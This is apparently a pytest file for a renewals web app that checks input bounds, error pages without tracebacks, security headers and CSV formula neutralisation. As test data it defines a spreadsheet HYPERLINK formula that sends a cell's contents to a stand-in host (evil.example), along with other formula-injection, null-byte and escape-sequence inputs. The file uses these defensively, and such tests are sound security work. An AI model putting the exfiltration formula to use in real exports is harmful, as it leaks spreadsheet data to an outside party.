"""Issue 15: every page as strict as the API, no 500 anywhere.

- each out-of-range input the security review found answers 4xx with a readable message
  and the security headers, and never reaches the database;
- an unexpected failure is a 500 page (or API error) with a request id, logged with that
  id, and no traceback;
- every CSV export (web and CLI) neutralises formulas (OWASP CSV injection).
"""

from __future__ import annotations

import csv
import io
import logging
from pathlib import Path

import pytest
from books import Books
from fastapi.testclient import TestClient
from sqlalchemy import Engine, update
from typer.testing import CliRunner
from web.world import EMAILS, build_world

from renewals.account.models import Account
from renewals.db import session_scope
from renewals.kit.spreadsheet import FORMULA_START, safe_cell
from renewals.renewal.export_commands import export_app as export_cli
from renewals.task.models import Task
from renewals.user.models import User

HUGE = "99999999999999999999"
EVIL_NAME = '=HYPERLINK("http://evil.example/?d="&A2,"Open")'


def _bad_inputs(records: dict) -> list[tuple[str, str, dict | None]]:
    """(method, path, form) for every input of the review (issue 15) and its neighbours."""
    gets = [f"/{page}?page={HUGE}" for page in ("accounts", "renewals", "tasks", "outbox", "audit")]
    gets += [f"/home?{table}_page={HUGE}" for table in ("renewals", "at_risk", "tasks", "outbox")]
    gets += [f"/{path}/{HUGE}" for path in ("concessions", "proposals", "contracts")]
    gets += [f"/proposals/{HUGE}/pdf", f"/contracts/{HUGE}/pdf", f"/contracts/{HUGE}/document"]
    gets += [
        f"/tasks?due={HUGE}",
        "/home?as_of=9999-12-31",
        "/manager?as_of=9999-12-31",
        "/manager?as_of=0001-01-01",
        "/executive?as_of=9999-12-31",
        "/executive?as_of=0001-01-01",
        f"/accounts/{records['account:own']}?as_of=0001-01-01",
        "/audit?until=9999-12-31",
        "/accounts?as_of=9999-12-31",
        "/accounts?window=99999999",
        f"/accounts/{records['account:own']}/health/9999-12-31",
        "/home?as_of=2026-13-45",
        "/tasks?owner=%00",
        "/accounts?q=%00",
    ]
    posts = [
        (f"/tasks/{HUGE}/done", {}),
        (f"/outbox/{HUGE}/approve", {}),
        (f"/concessions/{HUGE}/approve", {}),
        (f"/contracts/{HUGE}/submit", {}),
        (f"/proposals/{HUGE}/contract", {}),
        (f"/tasks/{records['task:open']}/snooze", {"until": "9999-12-31", "reason": "later"}),
        (f"/tasks/{records['task:open']}/done", {"note": "ok\x00\x1b[31m"}),
        (f"/tasks/{records['task:open']}/done", {"note": "x" * 4001}),
    ]
    return [("GET", path, None) for path in gets] + [("POST", p, f) for p, f in posts]


def test_out_of_range_input_is_a_4xx_with_a_message_and_the_security_headers(
    books: Books, engine: Engine, tmp_path: Path
) -> None:
    world = build_world(books, engine, tmp_path)
    client, token = world.clients["admin"], world.csrf["admin"]
    wrong = []
    for method, path, form in _bad_inputs(world.records):
        data = {**form, "csrf_token": token} if form is not None else None
        response = client.request(method, path, data=data, follow_redirects=False)
        headers = response.headers
        ok = (
            400 <= response.status_code < 500
            and "Something is wrong" in response.text
            or response.status_code in (403, 404)
        )
        if not ok or "<pre" in response.text or "Traceback" in response.text:
            wrong.append(f"{method} {path}: {response.status_code} {response.text[:200]!r}")
        if "frame-ancestors 'none'" not in headers.get("content-security-policy", ""):
            wrong.append(f"{method} {path}: no CSP on a {response.status_code}")
        if headers.get("x-frame-options") != "DENY" or headers.get("cache-control") != "no-store":
            wrong.append(f"{method} {path}: frame/cache headers missing")
    assert wrong == []
    # The web form is as strict as the API: the note above was refused, nothing stored.
    with session_scope(engine) as session:
        task = session.get(Task, world.records["task:open"])
        assert task is not None and task.status == "open"
    snooze = client.post(
        f"/tasks/{world.records['task:open']}/snooze",
        data={"until": "9999-12-31", "reason": "later", "csrf_token": token},
    )
    assert snooze.status_code == 422 and "2999-12-31" in snooze.text


def test_an_api_call_without_the_csrf_header_is_told_about_the_header(
    books: Books, engine: Engine, tmp_path: Path
) -> None:
    world = build_world(books, engine, tmp_path)
    client = world.clients["csm_owner"]
    response = client.post(f"/api/v1/tasks/{world.records['task:open']}/done", json={})
    assert response.status_code == 403
    message = response.json()["error"]["message"]
    assert "X-CSRF-Token header" in message and "form" not in message


def test_an_unexpected_failure_is_a_500_with_a_request_id_and_no_traceback(
    client: TestClient, add_user, caplog: pytest.LogCaptureFixture, monkeypatch
) -> None:
    from web.conftest import login

    from renewals.dashboard import queues

    add_user("carl@renewals.example", "csm")
    login(client, "carl@renewals.example")

    def broken(*args, **kwargs):
        raise ZeroDivisionError("secret internals")

    monkeypatch.setattr(queues, "tasks_spec", broken)
    quiet = TestClient(client.app, raise_server_exceptions=False, cookies=client.cookies)
    with caplog.at_level(logging.ERROR, logger="renewals.web"):
        page = quiet.get("/tasks")
    assert page.status_code == 500
    request_id = page.headers["x-request-id"]
    assert request_id in page.text and "secret internals" not in page.text
    assert "Traceback" not in page.text and "ZeroDivisionError" not in page.text
    assert "frame-ancestors 'none'" in page.headers["content-security-policy"]
    assert page.headers["x-frame-options"] == "DENY"
    assert page.headers["cache-control"] == "no-store"
    logged = [r for r in caplog.records if request_id in r.getMessage()]
    assert logged and logged[0].exc_info is not None  # the log has the cause, the page not


def _cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def _formulas(text: str) -> list[str]:
    return [c for c in _cells(text) if c.startswith(FORMULA_START) and safe_cell(c) != c]


def test_every_csv_export_neutralises_formulas(
    books: Books, engine: Engine, tmp_path: Path
) -> None:
    world = build_world(books, engine, tmp_path)
    with session_scope(engine) as session:
        session.execute(update(Account).values(name=EVIL_NAME))
        session.execute(update(User).where(User.email == EMAILS["vp"]).values(name="@SUM(1+1)"))
        session.execute(update(Task).values(title="=1+2", status_reason="-2+3"))
    exports = [
        ("admin", "/accounts?format=csv&show=all"),
        ("admin", "/renewals?format=csv&show=all"),
        ("csm_owner", "/tasks?format=csv&status=all"),
        ("admin", "/outbox?format=csv&status=all"),
        ("admin", "/audit?format=csv"),
        ("admin", "/users?format=csv"),
        ("director", "/approvals?format=csv"),
    ]
    exports += [("csm_owner", f"/home?csv={t}") for t in ("renewals", "at_risk", "tasks")]
    exports += [("manager", f"/manager?csv={t}") for t in ("stalled", "completion", "risk")]
    exports += [("executive", f"/executive?csv={t}") for t in ("segments", "trend")]
    seen_evil = 0
    for role, path in exports:
        response = world.clients[role].get(path)
        assert response.status_code == 200, (path, response.text[:300])
        assert response.headers["content-type"].startswith("text/csv"), path
        assert _formulas(response.text) == [], path
        seen_evil += "'" + EVIL_NAME in _cells(response.text)
    assert seen_evil >= 3  # the name is there, as text, in the account lists and dashboards
    env = {
        "RENEWALS_DATABASE_URL": world.settings.database_url,
        "RENEWALS_DATA_DIR": str(world.settings.data_dir),
        "COLUMNS": "200",
    }
    out = tmp_path / "renewals.csv"
    result = CliRunner().invoke(
        export_cli,
        ["--format", "csv", "-o", str(out), "--as-of", "2026-11-24"],
        env=env,
    )
    assert result.exit_code == 0, result.output
    text = out.read_text()
    assert _formulas(text) == [] and "'" + EVIL_NAME in _cells(text)


def test_text_that_is_only_a_number_stays_a_number() -> None:
    assert safe_cell("-12.50") == "-12.50" and safe_cell(-3) == -3
    assert safe_cell("=1+2") == "'=1+2" and safe_cell("\tx") == "'\tx"
    assert safe_cell("+49 30 1234") == "'+49 30 1234" and safe_cell("@x") == "'@x"


def test_cli_dates_have_the_same_bounds_as_pages_and_the_api(tmp_path: Path) -> None:
    env = {"RENEWALS_DATABASE_URL": f"sqlite:///{tmp_path / 'x.db'}", "COLUMNS": "200"}
    out = tmp_path / "r.csv"
    for bad in ("9999-12-31", "0001-01-01", "yesterday"):
        result = CliRunner().invoke(
            export_cli, ["--format", "csv", "-o", str(out), "--as-of", bad], env=env
        )
        assert result.exit_code == 2, result.output
        assert "--as-of" in result.output and "Traceback" not in result.output


def test_pages_format_for_people() -> None:
    from renewals.web import formatting as f

    assert f.plural(1, "row") == "1 row" and f.plural(1234, "row") == "1,234 rows"
    assert (
        f.money(57210, "USD") == "57,210 USD" and f.money("57210.5", "EUR", "de") == "57.210,50 EUR"
    )
    assert f.percent(0.1125) == "11%" and f.fact(0.1125, "seat_utilisation") == "11%"
    # `pct` is a value already in percent, as in the proposal documents' filters.
    assert f.pct(12.5) == "12.5%" and f.pct(20) == "20%" and f.pct("12.5", "de") == "12,5 %"
    from renewals.proposal import documents

    env = documents._environment(None)
    shown = env.from_string("{{ 12.5|pct }} {{ 0.1125|percent }}").render(language="en")
    assert shown == f"{f.pct(12.5)} {f.percent(0.1125)}"
    assert (
        f.word(False) == "no"
        and f.yesno(True, "de") == "ja"
        and f.label("seat_utilisation") == "Seat utilisation"
    )
